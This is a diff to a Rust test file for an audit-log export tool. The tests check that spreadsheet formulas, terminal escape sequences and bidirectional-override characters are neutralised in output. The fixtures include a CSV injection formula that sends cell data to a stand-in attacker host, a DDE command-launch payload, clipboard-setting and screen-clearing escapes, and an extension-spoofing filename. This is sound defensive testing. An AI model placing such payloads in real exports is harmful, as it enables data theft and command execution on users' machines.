@@ -24,17 +24,21 @@ fn page_with_rationales(
     CannedResponse::page(entries, 25, cursor)
 }
 
-const FORMULAS: [&str; 6] = [
+const FORMULAS: [&str; 10] = [
     "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1+1",
     "-2+3",
     "\tcell",
     "\rcell",
+    "\ncell",
+    " =1+1",
+    "\u{a0}=1+1",
+    "\u{ff1d}1+1",
 ];
 
-/// CSV cells starting with `=`, `@`, `+`, `-`, a tab or a carriage return get a leading `'` by default, and are
-/// written as received with `--csv-raw`.
+/// CSV cells starting with `=`, `@`, `+`, `-`, a tab, a carriage return or a line feed, after leading white space
+/// too, or with a full-width `＝`, get a leading `'` by default, and are written as received with `--csv-raw`.
 #[test]
 fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
     for (raw, expected) in [(false, true), (true, false)] {
@@ -65,48 +69,79 @@ fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
     }
 }
 
-/// CSV written to a terminal shows control characters as spaces, as the table does; the same export to a pipe
-/// keeps the exact bytes.
-#[test]
-fn csv_on_a_terminal_shows_control_characters_as_spaces() {
+/// Runs the exporter in-process in `format`, with stdout a terminal or not, and returns what it wrote there.
+fn export_to(server: &MockServer, format: &str, terminal: bool) -> String {
     let runtime = tokio::runtime::Builder::new_current_thread()
         .enable_all()
         .build()
         .expect("a runtime");
+    let cli = insight_audit_log::args::Cli::try_parse_args([
+        "insight-audit-log",
+        "--account",
+        server.account_id(),
+        "--format",
+        format,
+    ])
+    .expect("valid flags");
+    let mut stdout = Vec::new();
+    let mut stderr = Vec::new();
+    let base_url = server.base_url();
+    let token = server.credentials().api_token.clone();
+    let env = move |name: &str| match name {
+        "CLOUDFLARE_BASE_URL" => Some(base_url.clone()),
+        "CLOUDFLARE_API_TOKEN" => Some(token.clone()),
+        _ => None,
+    };
+    let code = runtime.block_on(insight_audit_log::run::run(
+        cli,
+        &env,
+        insight_audit_log::run::Terminals {
+            stdout: terminal,
+            stderr: false,
+        },
+        &mut stdout,
+        &mut stderr,
+        std::future::pending(),
+    ));
+    assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
+    String::from_utf8(stdout).expect("UTF-8")
+}
+
+/// Bidirectional overrides (U+202E and the others that messages escape) never reach a terminal: a table and CSV
+/// show them as spaces, NDJSON and JSON as `\u` escapes (the same JSON value); a pipe gets the exact text (but for
+/// the table, which is always shown safe).
+#[test]
+fn bidirectional_overrides_never_reach_a_terminal() {
+    let server = server(Config::default());
+    let hostile = "invoice\u{202e}fdp.exe\u{2066}x\u{200f}";
+    for format in ["table", "csv", "ndjson", "json"] {
+        for terminal in [true, false] {
+            server.push_canned(page_with_rationales(&server, &[hostile], None));
+            let text = export_to(&server, format, terminal);
+            let raw =
+                text.contains('\u{202e}') || text.contains('\u{2066}') || text.contains('\u{200f}');
+            // A table is for reading, wherever it goes: always shown safe.
+            let exact = !terminal && format != "table";
+            assert_eq!(raw, exact, "{format}, terminal: {terminal}: {text:?}");
+            if terminal && format.ends_with("json") {
+                assert!(
+                    text.contains("invoice\\u202efdp.exe\\u2066x\\u200f"),
+                    "{text:?}"
+                );
+            }
+        }
+    }
+}
+
+/// CSV written to a terminal shows control characters as spaces, as the table does; the same export to a pipe
+/// keeps the exact bytes.
+#[test]
+fn csv_on_a_terminal_shows_control_characters_as_spaces() {
     let server = server(Config::default());
     let hostile = "clear\u{1b}[2J and clipboard \u{1b}]52;c;SGVsbG8=\u{7}";
     for terminal in [true, false] {
         server.push_canned(page_with_rationales(&server, &[hostile], None));
-        let cli = insight_audit_log::args::Cli::try_parse_args([
-            "insight-audit-log",
-            "--account",
-            server.account_id(),
-            "--format",
-            "csv",
-        ])
-        .expect("valid flags");
-        let mut stdout = Vec::new();
-        let mut stderr = Vec::new();
-        let base_url = server.base_url();
-        let token = server.credentials().api_token.clone();
-        let env = move |name: &str| match name {
-            "CLOUDFLARE_BASE_URL" => Some(base_url.clone()),
-            "CLOUDFLARE_API_TOKEN" => Some(token.clone()),
-            _ => None,
-        };
-        let code = runtime.block_on(insight_audit_log::run::run(
-            cli,
-            &env,
-            insight_audit_log::run::Terminals {
-                stdout: terminal,
-                stderr: false,
-            },
-            &mut stdout,
-            &mut stderr,
-            std::future::pending(),
-        ));
-        assert_eq!(code, 0, "{}", String::from_utf8_lossy(&stderr));
-        let text = String::from_utf8(stdout).expect("UTF-8");
+        let text = export_to(&server, "csv", terminal);
         assert_eq!(
             text.contains('\u{1b}'),
             !terminal,
